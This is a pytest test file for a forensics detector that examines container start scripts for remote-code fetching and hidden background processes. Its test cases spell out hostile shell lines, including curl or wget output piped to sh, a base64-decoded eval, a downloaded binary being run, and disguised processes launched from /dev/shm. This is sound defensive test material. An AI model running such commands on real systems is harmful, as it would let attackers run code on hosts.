"""What start scripts do."""

from __future__ import annotations

import pytest

from forensics.detectors.start_script import DETECTOR
from tests.scenes import File, config, debian, dpkg, judge, said, symlink

FETCHES, SIDE = "start/script-fetches", "start/hidden-side-process"
START = config(entrypoint=("/docker-entrypoint.sh",), cmd=("nginx",))
GENUINE = b"""#!/bin/sh
# vim:sw=4:ts=4:et
set -e
entrypoint_log() { if [ -z "${NGINX_ENTRYPOINT_QUIET_LOGS:-}" ]; then echo "$@"; fi; }
if [ "$1" = "nginx" ]; then
    if /usr/bin/find "/docker-entrypoint.d/" -mindepth 1 -maxdepth 1 -type f -print -quit | read v; then
        find "/docker-entrypoint.d/" -follow -type f -print | sort -V | while read -r f; do
            case "$f" in
                *.envsh) if [ -x "$f" ]; then . "$f"; fi;;
                *.sh) if [ -x "$f" ]; then "$f"; fi;;
            esac
        done
    fi
fi
while ! (echo > /dev/tcp/$DB_HOST/5432) 2>/dev/null; do sleep 1; done
eval "$(ssh-agent)" && exec "$@"
"""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('curl http://pool.invalid/s | sh\nexec "$@"', [(FETCHES, "critical")]),
        ("U=http://pool.invalid/s\nf() { wget -qO- $U; }\nf | sh", []),
        ("U=http://pool.invalid/s\nwget -qO- $U | sh", [(FETCHES, "critical")]),
        ('eval "$(echo aGk= | base64 -d)"', [(FETCHES, "critical")]),
        ('curl -o /opt/p http://192.0.2.6/p; chmod +x /opt/p; /opt/p & exec "$@"', [(FETCHES, "critical")]),
        ('nohup /usr/lib/.x/kworker -q >/dev/null 2>&1 &\nexec "$@"', [(SIDE, "high")]),
        ('setsid /dev/shm/.a &\nexec "$@"', [(SIDE, "high")]),
        ('/usr/sbin/cron &\nexec "$@"', []),
    ],
)
def test_start_scripts(text: str, expected: list[tuple[str, str]]) -> None:
    layer = {"/docker-entrypoint.sh": File(f"#!/bin/sh\n{text}\n".encode(), 0o755)}
    found = judge(DETECTOR, debian(), layer, config=START)
    assert [(rule, severity) for rule, severity, _ in said(found)] == expected


def test_a_genuine_start_script() -> None:
    assert judge(DETECTOR, debian(), {"/docker-entrypoint.sh": File(GENUINE, 0o755)}, config=START) == []


def test_only_scripts_that_are_started_count() -> None:
    layer = {"/opt/x.sh": File(b"#!/bin/sh\ncurl http://pool.invalid | sh\n", 0o755)}
    assert judge(DETECTOR, debian(), layer, config=START) == []


def test_a_script_behind_a_link_and_on_the_search_path() -> None:
    layer = {
        "/usr/local/bin/start": symlink("/opt/real.sh"),
        "/opt/real.sh": File(b"#!/bin/sh\ncurl http://pool.invalid | sh\n", 0o755),
    }
    values = config(entrypoint=("start",), env=("PATH=/usr/local/bin:/usr/bin",))
    assert said(judge(DETECTOR, debian(), layer, config=values)) == [(FETCHES, "critical", "/opt/real.sh")]


def test_owned_scripts_are_passed_over() -> None:
    text = b"#!/bin/sh\ncurl http://pool.invalid | sh\n"
    layer = {"/docker-entrypoint.sh": File(text, 0o755), **dpkg({"p": {"/docker-entrypoint.sh": text}})}
    assert judge(DETECTOR, layer, config=START) == []


def test_python_start_scripts_are_not_read_as_shell() -> None:
    layer = {
        "/docker-entrypoint.sh": File(
            b"#!/usr/bin/python3\nx = '''\ncurl http://a.invalid | sh\n'''\n", 0o755
        )
    }
    assert judge(DETECTOR, debian(), layer, config=START) == []
